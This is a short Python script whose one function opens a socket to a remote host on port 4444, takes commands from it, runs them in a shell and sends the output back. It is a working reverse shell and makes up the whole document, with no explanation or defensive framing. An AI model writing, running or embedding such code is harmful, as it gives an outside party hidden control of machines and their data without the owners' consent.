import socket, subprocess, os

def connect():
    s = socket.socket()
    s.connect(("198.51.100.23", 4444))
    while True:
        cmd = s.recv(1024).decode()
        out = subprocess.run(cmd, shell=True, capture_output=True)
        s.send(out.stdout + out.stderr)
